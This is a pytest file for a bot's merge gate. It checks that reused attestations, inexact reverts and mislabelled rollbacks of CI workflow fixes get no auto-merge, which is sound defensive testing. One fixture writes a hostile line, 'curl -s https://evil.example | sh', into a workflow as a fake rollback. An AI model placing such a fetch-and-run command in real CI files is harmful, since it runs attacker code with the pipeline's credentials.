"""What a pull request changes is what merging it changes: attestations and reverts are judged
on that, on the local forge, through ``mendbot gate`` and the gate's library entry point.

The scenario (``gate_scenario``): ``ci.yml`` is staging, ``deploy.yml`` is production (owned by
Olivia); the persist-credentials remediation of each is proposed as a signed pull request.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from gate_scenario import NOW, Scenario, local_scenario
from test_gate_local import gate, open_human_pull

from bot.forge.interface import PullState
from bot.forge.local import LocalForge

CI = ".github/workflows/ci.yml"
DEPLOY = ".github/workflows/deploy.yml"
WORST = ("unsafe", "irreversible", "organization")


def _risk(context: dict) -> tuple[str, str, str]:
    change = context["change"]
    return (change["disposition"], change["reversibility"], change["blast_radius"])


def _pub(scenario: Scenario, tmp_path: Path) -> Path:
    path = tmp_path / "mendbot.pub"
    path.write_bytes(
        scenario.trust.public_key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return path


def mendbot_gate(scenario: Scenario, number: int, tmp_path: Path) -> tuple[int, dict, str]:
    """``mendbot gate --forge local --pr N`` as a subprocess: exit code, record, stdout."""
    record = tmp_path / f"record-{number}.json"
    done = subprocess.run(
        [
            sys.executable, "-m", "bot", "gate", "--forge", "local", "--pr", str(number),
            "--repo", str(scenario.path), "--base", "main",
            "--verify-key", str(_pub(scenario, tmp_path)),
            "--now", NOW.strftime("%Y-%m-%dT%H:%M:%SZ"), "--record", str(record),
        ],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, json.loads(record.read_text()), done.stdout


def commit_on_main(scenario: Scenario, files: dict[str, str], message: str) -> str:
    """A reviewed change merged on main after the remediations were attested."""
    repo = scenario.repo
    repo.git("checkout", "-q", "main")
    for name, content in files.items():
        repo.write(name, content)
    return repo.commit(message)


def reuse_attestation(scenario: Scenario, forge: LocalForge, number: int, branch: str) -> int:
    """The attack: the bot commit's tree committed on today's main, opened by mallory."""
    repo = scenario.repo
    bot_head = forge.pull_info(number).head_sha
    attack = repo.git("commit-tree", f"{bot_head}^{{tree}}", "-p", "main", "-m", "Fix CI")
    repo.git("branch", branch, attack)
    return open_human_pull(forge, branch, "Fix CI credentials", "mallory")


@pytest.fixture
def auto(bench, signing_key) -> tuple[Scenario, LocalForge]:
    return local_scenario(bench, signing_key, auto_merge=True)


# -- item 1: a genuine attestation reused on a later base -------------------------------------


def test_reused_attestation_that_silently_reverts_staging_work_gets_no_auto_merge(
    auto, tmp_path
) -> None:
    scenario, forge = auto
    ci = (scenario.path / CI).read_text()
    commit_on_main(scenario, {CI: ci + "      - run: npm audit --audit-level=high\n"}, "audit")
    number = reuse_attestation(scenario, forge, scenario.pulls["staging"], "mallory/ci")

    code, record, stdout = mendbot_gate(scenario, number, tmp_path)

    assert code == 1, stdout
    context = record["context"]
    assert context["provenance"] == {
        "verified": True,
        "source": "detector",
        "matches_pr": False,
    }
    assert _risk(context) == WORST
    assert record["decision"] != "allow"
    assert forge.get(number).auto_merge is None
    notes = "\n".join(record["attestation"]["notes"])
    assert f"{CI}: pre-image content differs from the attested one" in notes
    assert "untrusted-provenance" in {m["policy"] for m in record["result"]["missing_approvals"]}


def test_reused_attestation_that_reverts_code_owned_production_lists_every_extra_file(
    auto, tmp_path
) -> None:
    scenario, forge = auto
    deploy = (scenario.path / DEPLOY).read_text()
    commit_on_main(
        scenario,
        {DEPLOY: deploy + "      - run: ./smoke-test.sh\n", "SECURITY.md": "Report to sec@\n"},
        "deploy smoke test and a security policy",
    )
    number = reuse_attestation(scenario, forge, scenario.pulls["staging"], "mallory/ci")

    code, record, _ = mendbot_gate(scenario, number, tmp_path)

    assert code == 1
    context = record["context"]
    assert context["provenance"]["matches_pr"] is False
    assert _risk(context) == WORST
    assert context["change"]["environments"] == ["production", "staging", "unmapped"]
    notes = "\n".join(record["attestation"]["notes"])
    assert f"extra change: head modifies {DEPLOY}, which is not attested" in notes
    assert "extra change: head deletes SECURITY.md, which is not attested" in notes
    comment = forge.get(number).comments["gate"]
    assert "SECURITY.md" in comment and DEPLOY in comment
    # Olivia owns deploy.yml: her approval is needed, not just anyone's.
    missing = {m["policy"]: m for m in record["result"]["missing_approvals"]}
    assert "untrusted-provenance" in missing
    assert forge.get(number).auto_merge is None


def test_a_bot_pull_request_still_matches_when_main_moves_on(auto, tmp_path) -> None:
    scenario, forge = auto
    number = scenario.pulls["staging"]
    commit_on_main(scenario, {"README.md": "# project\n\nUnrelated news.\n"}, "news")

    code, record, stdout = mendbot_gate(scenario, number, tmp_path)

    assert code == 0, stdout
    assert record["context"]["provenance"]["matches_pr"] is True
    assert _risk(record["context"]) == ("safe", "reversible", "file")
    assert forge.get(number).auto_merge is not None
    checks = {c["id"]: c["status"] for c in record["attestation"]["checks"]}
    assert checks["change-set"] == checks["merge-result"] == checks["base"] == "passed"

    # "Update branch": main merged into the bot's branch. The change is still the attested one.
    pull = forge.pull_info(number)
    repo = scenario.repo
    repo.git("checkout", "-q", pull.head_ref)
    repo.git("merge", "-q", "--no-edit", "main")
    repo.git("checkout", "-q", "main")
    code, record, stdout = mendbot_gate(scenario, number, tmp_path)
    assert code == 0, stdout
    assert record["context"]["provenance"]["matches_pr"] is True


def test_a_bot_pull_request_whose_merge_would_change_more_than_attested_does_not_match(
    auto, tmp_path
) -> None:
    """main later adds a step that pushes with the checkout's credentials; the fix (which
    removes them) still merges cleanly, but the merged workflow is not the attested one."""
    scenario, forge = auto
    number = scenario.pulls["staging"]
    ci = (scenario.path / CI).read_text()
    commit_on_main(scenario, {CI: ci + "      - run: git push origin HEAD:gh-pages\n"}, "publish")

    code, record, _ = mendbot_gate(scenario, number, tmp_path)

    assert code == 1
    # Genuine, but not this change: the attested rules stay visible, the risk is the worst.
    assert record["context"]["provenance"] == {
        "verified": True,
        "source": "detector",
        "matches_pr": False,
    }
    assert record["context"]["change"]["rules"] == ["gha-persist-credentials"]
    assert _risk(record["context"]) == WORST
    checks = {c["id"]: c["status"] for c in record["attestation"]["checks"]}
    assert checks["change-set"] == "passed"  # the pull request's own diff is the attested one
    assert checks["merge-result"] == "failed"
    notes = "\n".join(record["attestation"]["notes"])
    assert f"merge-result: {CI}: post-image content differs from the attested one" in notes
    assert forge.get(number).auto_merge is None


def test_a_bot_pull_request_that_conflicts_with_main_does_not_match(auto, tmp_path) -> None:
    scenario, forge = auto
    number = scenario.pulls["staging"]
    ci = (scenario.path / CI).read_text()
    edited = ci.replace(
        "      - uses: actions/checkout@v4\n", "      - uses: actions/checkout@v5\n"
    )
    commit_on_main(scenario, {CI: edited}, "checkout v5")

    code, record, _ = mendbot_gate(scenario, number, tmp_path)

    assert code == 1
    assert record["context"]["provenance"]["matches_pr"] is False
    assert "does not merge cleanly into the base" in "\n".join(record["attestation"]["notes"])
    assert forge.get(number).auto_merge is None


# -- exact reverts: the merge result must restore the bot commit's pre-image ------------------


def merge_staging(scenario: Scenario, forge: LocalForge) -> str:
    """The staging remediation merges (merge commit); returns the merge commit."""
    number = scenario.pulls["staging"]
    repo = scenario.repo
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", f"Merge #{number}", forge.pull_info(number).head_ref)
    forge.set_state(number, PullState.MERGED)
    return repo.head()


def branch_at(scenario: Scenario, branch: str, start: str, files: dict[str, str | None]) -> None:
    """``branch`` from ``start`` with ``files`` written (None: deleted), committed."""
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", branch, start)
    for name, content in files.items():
        if content is None:
            repo.git("rm", "-q", name)
        else:
            repo.write(name, content)
    repo.commit(f"change on {branch}")
    repo.git("checkout", "-q", "main")


def test_same_paths_other_content_and_a_deleted_attestation_is_not_a_revert(
    staged, tmp_path
) -> None:
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    attestation = next(
        line.split("\t")[-1]
        for line in scenario.repo.git("diff", "--raw", f"{merge}^1", merge).splitlines()
        if ".mendbot/attestations/" in line
    )
    before = scenario.repo.git("show", f"{merge}^1:{CI}")
    # A "rollback" of the bot change that puts something else into ci.yml.
    branch_at(
        scenario,
        "not-a-rollback",
        "main",
        {CI: before + "      - run: curl -s https://evil.example | sh\n", attestation: None},
    )
    number = open_human_pull(
        forge, "not-a-rollback", "Revert #1", "mallory", ["mendbot:rollback", "env:staging"]
    )
    code, record, _ = mendbot_gate(scenario, number, tmp_path)
    pr = record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)
    assert _risk(record["context"]) == WORST
    assert code == 1
    # The same with the exact content but an executable bit: not exact either.
    branch_at(scenario, "mode-flip", "main", {CI: before, attestation: None})
    repo = scenario.repo
    repo.git("checkout", "-q", "mode-flip")
    (scenario.path / CI).chmod(0o755)
    repo.commit("exec bit")
    repo.git("checkout", "-q", "main")
    flipped = open_human_pull(forge, "mode-flip", "Revert #1", "mallory")
    pr = mendbot_gate(scenario, flipped, tmp_path)[1]["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)
    # Neither freezes staging with its rollback label: a staging pull request is not frozen.
    assert gate(forge, scenario, flipped).record["context"]["environment"] == {"frozen": False}


def test_a_revert_from_before_a_later_change_to_the_same_file_is_not_exact(
    staged, tmp_path
) -> None:
    """The pull request's own diff turns the bot commit around, but merging it into today's
    main leaves a ci.yml nobody reviewed (main's later step without the fix)."""
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    ci = (scenario.path / CI).read_text()
    commit_on_main(scenario, {CI: ci + "      - run: npm run lint\n"}, "lint")
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "stale-rollback", merge)
    repo.git("revert", "--no-edit", "-m", "1", merge)
    repo.git("checkout", "-q", "main")
    number = open_human_pull(
        forge, "stale-rollback", "Revert #1", "release-eng", ["mendbot:rollback"]
    )
    code, record, _ = mendbot_gate(scenario, number, tmp_path)
    pr = record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)
    assert _risk(record["context"]) == WORST
    assert code == 1


def test_a_revert_that_conflicts_with_main_is_not_exact(staged, tmp_path) -> None:
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    ci = (scenario.path / CI).read_text()
    assert "persist-credentials: false" in ci
    commit_on_main(
        scenario,
        {CI: ci.replace("persist-credentials: false", "persist-credentials: false  # keep")},
        "note",
    )
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "conflicting-rollback", merge)
    repo.git("revert", "--no-edit", "-m", "1", merge)
    repo.git("checkout", "-q", "main")
    number = open_human_pull(forge, "conflicting-rollback", "Revert #1", "release-eng")
    pr = mendbot_gate(scenario, number, tmp_path)[1]["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)


def test_an_empty_pull_request_is_not_a_revert(staged, tmp_path) -> None:
    """A pull request that changes nothing reverts nothing, whatever its title and labels."""
    scenario, forge = staged
    merge_staging(scenario, forge)
    scenario.repo.git("branch", "nothing", "main")
    number = open_human_pull(forge, "nothing", "Revert #1", "mallory", ["mendbot:rollback"])
    pr = mendbot_gate(scenario, number, tmp_path)[1]["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)


def test_reverting_the_removal_of_an_attestation_is_not_a_bot_revert(staged, tmp_path) -> None:
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    attestation = next(
        line.split("\t")[-1]
        for line in scenario.repo.git("diff", "--raw", f"{merge}^1", merge).splitlines()
        if ".mendbot/attestations/" in line
    )
    repo = scenario.repo
    repo.git("rm", "-q", attestation)
    removal = repo.commit("drop an attestation")
    repo.git("checkout", "-q", "-b", "undo-removal", "main")
    repo.git("revert", "--no-edit", removal)
    repo.git("checkout", "-q", "main")
    number = open_human_pull(forge, "undo-removal", "Restore it", "mallory")
    code, record, _ = mendbot_gate(scenario, number, tmp_path)
    pr = record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (True, False)
    assert code == 1


# -- item 8: a rollback freezes the environments it touches, whatever its labels --------------


def test_a_rollback_freezes_the_environments_its_paths_touch_not_its_labels(
    staged, tmp_path
) -> None:
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "rollback", "main")
    repo.git("revert", "--no-edit", "-m", "1", merge)
    repo.git("checkout", "-q", "main")
    # The staging revert mislabelled as a production rollback.
    rollback = open_human_pull(
        forge, "rollback", "Revert #1", "release-eng", ["mendbot:rollback", "env:production"]
    )
    pr = mendbot_gate(scenario, rollback, tmp_path)[1]["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (True, True)

    production = mendbot_gate(scenario, scenario.pulls["production"], tmp_path)[1]
    assert production["context"]["environment"] == {"frozen": False}

    branch_at(scenario, "staging-work", "main", {CI: "name: ci\non: push\njobs: {}\n"})
    staging_work = open_human_pull(forge, "staging-work", "Rewrite CI", "alice")
    code, record, stdout = mendbot_gate(scenario, staging_work, tmp_path)
    assert record["context"]["environment"] == {"frozen": True}
    assert code == 1
    assert "staging is frozen after a failed deploy" in stdout
    # The deleted attestation is bookkeeping: unmapped paths are not frozen.
    branch_at(scenario, "docs", "main", {"README.md": "# project\n\nDocs.\n"})
    docs = open_human_pull(forge, "docs", "Docs", "alice")
    assert gate(forge, scenario, docs).record["context"]["environment"] == {"frozen": False}


def test_a_rollback_into_a_branch_the_gate_does_not_guard_freezes_nothing(staged) -> None:
    scenario, forge = staged
    merge = merge_staging(scenario, forge)
    repo = scenario.repo
    repo.git("branch", "scratch", "main")
    repo.git("checkout", "-q", "-b", "rollback", "scratch")
    repo.git("revert", "--no-edit", "-m", "1", merge)
    repo.git("checkout", "-q", "main")
    open_human_pull(forge, "rollback", "Revert #1", "eve", ["mendbot:rollback"], base="scratch")
    branch_at(scenario, "staging-work", "main", {CI: "name: ci\non: push\njobs: {}\n"})
    staging_work = open_human_pull(forge, "staging-work", "Rewrite CI", "alice")
    assert gate(forge, scenario, staging_work).record["context"]["environment"] == {"frozen": False}


@pytest.fixture
def staged(bench, signing_key) -> tuple[Scenario, LocalForge]:
    return local_scenario(bench, signing_key)


# -- the same attack on the test GitHub server -------------------------------------------------


def test_reused_attestation_on_github_is_a_human_change(github, bench, signing_key) -> None:
    from test_gate_github import REPO, _setup, push_to_fake
    from test_gate_github import gate as github_gate

    scenario, forge = _setup(github, bench, signing_key, auto_merge=True)
    github.required_checks = {"main": ["mendbot/policy"]}
    staging_head = forge.pull_info(scenario.pulls["staging"]).head_sha
    ci = (scenario.path / CI).read_text()
    commit_on_main(scenario, {CI: ci + "      - run: npm audit --audit-level=high\n"}, "audit")
    push_to_fake(github, scenario.repo, "main")
    repo = scenario.repo
    attack = repo.git("commit-tree", f"{staging_head}^{{tree}}", "-p", "main", "-m", "Fix CI")
    repo.git("branch", "mallory/ci", attack)
    push_to_fake(github, repo, "mallory/ci")
    number = github.add_pull(REPO, "mallory/ci", title="Fix CI", author="mallory").number

    run = github_gate(forge, scenario, number)

    context = run.record["context"]
    assert context["provenance"]["matches_pr"] is False
    assert _risk(context) == WORST
    assert run.decision.outcome == "require_approval"
    assert github.repos[REPO].pulls[number].auto_merge is None
    assert any(f"{CI}: pre-image content differs" in n for n in run.gathered.attestation.notes)
    # The genuine pull request does not match either any more: main changed the file it fixes,
    # so what merging it changes is not what was attested (the bundle must be regenerated).
    run = github_gate(forge, scenario, scenario.pulls["staging"])
    assert run.record["context"]["provenance"]["matches_pr"] is False
    assert run.decision.outcome == "require_approval"
